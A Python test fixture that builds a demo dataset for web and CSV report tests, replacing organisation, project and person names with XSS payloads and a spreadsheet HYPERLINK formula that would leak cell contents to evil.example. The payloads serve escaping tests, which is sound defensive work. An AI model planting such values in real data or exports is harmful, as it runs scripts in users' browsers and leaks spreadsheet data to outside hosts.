"""The demo dataset the web and report tests share, with markup in names so pages show their escaping."""

from __future__ import annotations

import dataclasses
import datetime as dt

from graph.model import Dataset
from ingest.synthetic.generator import generate

AS_OF = dt.date(2025, 6, 1)
EVIL_ORG = '<script>alert("org")</script> Taalcafé & Co'
EVIL_PERSON = "<img src=x onerror=alert(1)> Fatima"
EVIL_PROJECT = '<script>alert("org")</script> Maatjes & Co'
# A spreadsheet formula as a buddy project's name, for the CSV downloads.
FORMULA_BUDDY = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'


def demo_dataset() -> Dataset:
    """Return the demo dataset (seed 1) with markup in the names of the first organisation, the first
    buddy project (maatjesproject, named in the report) and the first person, and a spreadsheet
    formula as the second buddy project's name."""
    data = generate("demo", 1)
    data.organisations[0] = dataclasses.replace(data.organisations[0], name=EVIL_ORG)
    i = next(i for i, o in enumerate(data.organisations) if o.kind == "maatjesproject")
    data.organisations[i] = dataclasses.replace(data.organisations[i], name=EVIL_PROJECT)
    j = next(j for j, o in enumerate(data.organisations) if j > i and o.kind == "maatjesproject")
    data.organisations[j] = dataclasses.replace(data.organisations[j], name=FORMULA_BUDDY)
    data.people[0] = dataclasses.replace(data.people[0], name=EVIL_PERSON)
    return data
